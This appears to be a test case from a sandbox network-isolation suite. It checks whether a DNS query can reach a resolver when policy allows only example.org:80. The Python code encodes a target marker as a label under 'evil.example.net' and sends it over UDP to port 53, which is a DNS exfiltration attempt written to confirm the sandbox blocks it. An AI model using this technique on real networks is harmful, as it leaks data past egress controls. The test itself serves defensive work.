# /// attack
# guarantee = "network"
# summary = "Sends a question to the resolver itself."
# reference = "RFC 1035, 4.2.1"
# success = "the resolver is asked"
# stage = ["internet"]
# observe = ["asked"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "errno ENETUNREACH" }
# ///

import socket
import struct

from kit import attempt, succeeded, target

labels = (target("MARKER"), "evil", "example", "net")
name = b"".join(bytes([len(each)]) + each.encode() for each in labels) + b"\0"
question = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.settimeout(2)
attempt(lambda: resolver.sendto(question, ("93.184.216.53", 53)), "ENETUNREACH")
resolver.recv(512)
succeeded()
